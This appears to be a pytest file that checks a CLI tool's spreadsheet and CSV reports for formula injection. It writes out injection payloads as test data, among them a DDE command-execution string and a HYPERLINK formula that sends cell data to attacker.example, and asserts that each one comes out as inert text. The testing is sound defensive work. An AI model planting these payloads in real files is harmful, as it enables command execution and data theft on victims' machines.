"""Formula injection: no cell of a report can run as a formula, in .xlsx or in .csv.

A marketer's export can carry a cell such as ``=HYPERLINK(...)`` or ``-2+3+cmd|' /C calc'!A0``
(typed by a customer in a web form); the report copies every input cell, so a colleague who
opens it in Excel must see text, never a formula. The payloads go through the real command
(``check`` and ``upload``) and the reports are opened the way a spreadsheet would read them:
openpyxl for .xlsx (the cell's data type must be a string, not a formula), a CSV parser for .csv
(the text must not start with a formula trigger unless it is a plain number).
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from proof_support import COURSE_HEADER, COURSE_MAPPING

from app.cli.main import main
from app.core.reading.sheet import read_sheet
from app.core.reports.report import write_rows_file

PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+33 6 12 34 56 78",
    "@@DDE",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "  @SUM(1)",
    "\t\t-1+1",
    "=",
    "-",
    "+",
    "@",
]
# A column whose name is itself a payload: headers are copied into reports too.
HEADER_PAYLOAD = '=HYPERLINK("http://attacker.example","Open")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?")


def _write_input(folder: Path) -> tuple[Path, Path]:
    """A CSV whose text cells carry every payload: in the course name (a valid row), in the email
    (an invalid row, so the Error text quotes it), and as an extra column."""
    path = folder / "payloads.csv"
    with open(path, "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow([*COURSE_HEADER, "Notes", HEADER_PAYLOAD])
        for i, payload in enumerate(PAYLOADS):
            writer.writerow(
                [f"p{i}@example.com", "2025-03-01 10:00", payload, "5", "2025-03-01", "Expert",
                 payload, "x"]
            )  # fmt: skip
            writer.writerow(
                [
                    payload,
                    "2025-03-01 10:00",
                    f"Course {i}",
                    "5",
                    "2025-03-01",
                    "Expert",
                    payload,
                    "x",
                ]
            )
    mapping = folder / "payloads.mapping.json"
    mapping.write_text(json.dumps(COURSE_MAPPING), encoding="utf-8")
    return path, mapping


def _could_run(text: str) -> bool:
    stripped = text.lstrip(" ")
    return stripped.startswith(TRIGGERS) and PLAIN_NUMBER.fullmatch(stripped) is None


def _check_xlsx(path: Path) -> int:
    """Return how many payload cells were checked; fail on any formula cell."""
    book = openpyxl.load_workbook(path)  # not read-only: data_type "f" is reported for formulas
    seen = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str) and _could_run(cell.value):
                    assert cell.data_type == "s", (cell.coordinate, cell.value, cell.data_type)
                    seen += 1
    return seen


def _check_csv(path: Path) -> int:
    text = path.read_text(encoding="utf-8-sig")
    first = text.split("\r\n", 1)[0]
    delimiter = ";" if first.count(";") > first.count(",") else ","
    seen = 0
    for line in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
        for cell in line:
            assert not _could_run(cell), f"a spreadsheet would run {cell!r}"
            seen += cell.startswith("'")
    return seen


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_check_report_cells_cannot_run(tmp_path: Path, suffix: str, capsys: Any) -> None:
    source, mapping = _write_input(tmp_path)
    report = tmp_path / f"report{suffix}"
    code = main(["check", str(source), "--mapping", str(mapping), "--report", str(report)])
    assert code == 1  # the payload emails are invalid rows
    checked = _check_xlsx(report) if suffix == ".xlsx" else _check_csv(report)
    print(f"\nformula injection [{suffix}]: {checked} payload cells neutralised, none runs")
    # Every payload appears as a valid course name and as a note (at least 2 cells each), and
    # the payload header is one more.
    assert checked >= 2 * len(PAYLOADS) + 1


def test_xlsx_report_keeps_the_payload_text_exactly(tmp_path: Path) -> None:
    """Escaping in .xlsx must not change what the user sees (quote prefix, not a changed value)."""
    source, mapping = _write_input(tmp_path)
    report = tmp_path / "report.xlsx"
    main(["check", str(source), "--mapping", str(mapping), "--report", str(report)])
    sheet = openpyxl.load_workbook(report).active
    header = [c.value for c in sheet[1]]
    notes = [row[header.index("Notes")] for row in sheet.iter_rows(min_row=2, values_only=True)]
    expected = [p for p in PAYLOADS for _ in (0, 1)]
    # openpyxl reads an XML carriage return back as a line feed; both are text, never a formula.
    assert [n.replace("\r", "\n") for n in notes] == [p.replace("\r", "\n") for p in expected]


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_failed_rows_file_cells_cannot_run(tmp_path: Path, suffix: str) -> None:
    """The "rows to fix" file is opened in Excel too."""
    source, _mapping = _write_input(tmp_path)
    sheet = read_sheet(source)
    out = tmp_path / f"to-fix{suffix}"
    write_rows_file(out, sheet, range(len(sheet.rows)))
    checked = _check_xlsx(out) if suffix == ".xlsx" else _check_csv(out)
    assert checked >= 2 * len(PAYLOADS)
